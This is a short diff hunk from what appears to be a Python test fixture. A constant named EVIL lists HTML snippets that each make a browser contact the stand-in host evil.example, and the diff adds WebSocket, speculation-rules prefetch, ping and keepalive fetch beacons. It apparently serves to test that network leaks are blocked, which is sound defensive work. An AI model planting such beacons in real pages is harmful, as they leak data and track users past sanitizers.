@@ -67,6 +67,10 @@ EVIL = (
     b"<img src='http://evil.example/i.png'><iframe src='http://evil.example/'></iframe>"
     b"<link rel=preconnect href='http://evil.example'><link rel=dns-prefetch href='//evil.example'>"
     b"<link rel=prefetch href='http://evil.example/p'><link rel=stylesheet href='http://evil.example/c.css'>"
+    b"<iframe sandbox=allow-scripts srcdoc=\"<script>new WebSocket('ws://evil.example/t')</script>\"></iframe>"
+    b'<script type=speculationrules>{"prefetch":[{"urls":["http://evil.example/r"],"eagerness":"immediate"}]}</script>'
+    b"<a id=a ping='http://evil.example/g' href='#a'></a><script>document.getElementById('a').click();"
+    b"onpagehide = () => fetch('http://evil.example/u', {keepalive: true, method: 'POST', mode: 'no-cors'})</script>"
 )
 WITNESS = """
 import os, sys
